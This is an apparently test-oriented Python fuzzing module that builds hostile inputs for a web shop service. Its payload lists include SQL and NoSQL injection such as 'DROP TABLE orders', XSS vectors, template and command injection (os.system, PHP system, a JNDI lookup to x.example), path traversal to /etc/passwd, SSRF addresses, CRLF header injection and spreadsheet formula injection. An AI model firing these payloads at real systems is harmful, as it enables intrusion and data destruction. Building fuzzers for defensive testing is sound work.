"""Text that attackers send: written by hand after what is known, then spliced, repeated and packed by a seeded chance.

Where a payload leaves room for it, `{m}` stands for the mark by which a reflection is found again.
"""

import base64
import json
import random
from collections.abc import Iterator
from urllib.parse import quote


FAMILIES: dict[str, tuple[str, ...]] = {
    "query languages": (
        "' OR '1'='1' -- {m}",
        "1'; DROP TABLE orders; -- {m}",
        "127.0.0.1','x'); INSERT INTO admin VALUES ('{m}','x') -- ",
        '" UNION SELECT key FROM channels -- {m}',
        "') OR sleep(9)#{m}",
        "attribute_exists(pk) OR {m}",
        "#tries < :most OR {m} = {m}",
        "SET state = {m}",
        "begins_with(pk, 'ORDER#')",
        '{{"$gt": "{m}"}}',
        "*)(uid=*))(|(uid={m}",
        "SELECT * FROM \"test-trade\" WHERE pk='{m}'",
    ),
    "markup": (
        "<script>alert('{m}')</script>",
        '"><img src=x onerror={m}>',
        "'-alert({m})-'",
        "</title><svg/onload={m}>",
        "javascript:alert({m})",
        "data:text/html;base64,PHNjcmlwdD4={m}",
        "<!--{m}--!><script>",
        "&lt;script&gt;{m}",
        "<iframe srcdoc='{m}'>",
        "]]><{m}>",
    ),
    "templates and code": (
        "{{{{7*7}}}}{m}",
        "${{7*7}}{m}",
        "#{{7*7}}{m}",
        "{{% import os %}}{m}",
        "%({m})s %s %n %d",
        "{{0.__class__.__mro__}}{m}",
        "${{jndi:ldap://x.example/{m}}}",
        "$(touch /tmp/{m})",
        "`id`;{m}",
        "|| sleep 9 #{m}",
        "__import__('os').system('{m}')",
        "!!python/object/apply:os.system ['{m}']",
        'O:8:"stdClass":0:{{}}{m}',
        "<?php system('{m}'); ?>",
    ),
    "paths": (
        "../../../../etc/passwd{m}",
        "..%2f..%2f{m}",
        "....//....//{m}",
        "/%2e%2e/{m}",
        "\\\\server\\share\\{m}",
        "//evil.example/{m}",
        "https://evil.example/{m}",
        "file:///etc/passwd",
        "/o/{m}/../../prefs",
    ),
    "line breaks and controls": (
        "x\r\nSet-Cookie: a={m}",
        "x\nLocation: https://evil.example/{m}",
        "x\r\n\r\n<html>{m}",
        "{m}\x00.png",
        "\x00",
        "\x1b[2J{m}",
        "\x7f\x80\x9f{m}",
        "x%0d%0aSet-Cookie:{m}",
        "x\u2028{m}\u2029",
        "\ufeff{m}",
        "\u202e{m}\u202c",
        "\ud800{m}",
        "{m}\udfff",
        "\t{m}\t",
    ),
    "addresses": (
        "127.0.0.1",
        "::1",
        "::ffff:203.0.113.9",
        "203.0.113.9, 127.0.0.1",
        "unknown",
        "for=127.0.0.1;proto=https;by={m}",
        'for="[::1]:8080"',
        "0x7f000001",
        "2130706433",
        "0.0.0.0",
        "169.254.169.254",
        "localhost",
        "shop.test.evil.example",
        "shop.test@evil.example",
        "shop.test:99999",
        "evil.example/{m}",
        "null",
        "-1",
        ",,,,",
        "1.1.1.1" + ", 1.1.1.1" * 300,
    ),
    "numbers and signs": (
        *("0", "-1", "1e309", "NaN", "Infinity", "9" * 5_000, "1;q=1e400", "zh;q=NaN", "en;q=--1", "zh;q=inf,en"),
        *("true", "null", "undefined", "[]", "{{}}", "[{m}]", "١٢٣", "１２", "½", "0x10", "1_000", " ", ""),
        *("=cmd|'/c calc'!A1{m}", "@SUM(1+1)*{m}", "+1{m}", "-1+{m}"),
    ),
    "scripts and signs": ("卡密{m}", "😀{m}", "𠀀{m}", "e\u0301{m}", "\u0130{m}", "ß{m}", "ﷺ" * 50, "Z̷̡̛{m}", "\u200b{m}\u200d", "a" * 8_000),
}
"""What they are good at, and how they are spelled."""


def handwritten(mark: str) -> list[str]:
    return [payload.replace("{m}", mark).replace("{{", "{").replace("}}", "}") for family in FAMILIES.values() for payload in family]


def nested(mark: str) -> list[str]:
    """Texts whose structure is the weapon, as they stand and in base64: depth, breadth, size, the wrong kind."""
    shapes = [
        "[" * 3_000,
        "[" * 3_000 + "]" * 3_000,
        '{"a":' * 1_500,
        '[["ord_x",' * 900,
        "[" + "[]," * 1_500 + "[]]",
        "[" + "9" * 5_000 + "]",
    ]
    shapes += [
        json.dumps([[mark, mark]] * 50),
        json.dumps({mark: mark}),
        json.dumps([[f"ord_{'0' * 26}", "0" * 16]] * 9),
        '["\\ud800"]',
        "NaN",
    ]
    packed = [base64.urlsafe_b64encode(text.encode()).decode() for text in shapes]
    return [*shapes, *packed, *(text.rstrip("=") for text in packed), "=" * 99, "A", "%%%", "-_" * 99]


def spliced(chance: random.Random, mark: str) -> Iterator[str]:
    """Without an end: pieces of the above, put together as a fuzzer would."""
    pieces = (
        handwritten(mark) + [chr(n) for n in range(0x20, 0x7F)] + ["; ", ", ", "=", "&", "\r\n", "__Host-orders=", "__Host-grant=", "q=0."]
    )
    packings = (
        lambda text: text,
        lambda text: text,
        lambda text: quote(text, errors="replace"),
        lambda text: base64.b64encode(text.encode(errors="replace")).decode(),
        lambda text: text[: len(text) // 2],
        lambda text: text * chance.randint(2, 9),
        lambda text: text.upper(),
        lambda text: text[::-1],
    )
    while True:
        text = "".join(chance.choice(pieces)[:2_000] for _ in range(chance.randint(1, 4)))
        yield chance.choice(packings)(text)[:9_000]


def values(seed: int, count: int, mark: str) -> Iterator[str]:
    """`count` hostile texts: those by hand first, then spliced ones."""
    made = [*handwritten(mark), *nested(mark)][:count]
    yield from made
    more = spliced(random.Random(seed), mark)
    for _ in range(count - len(made)):
        yield next(more)
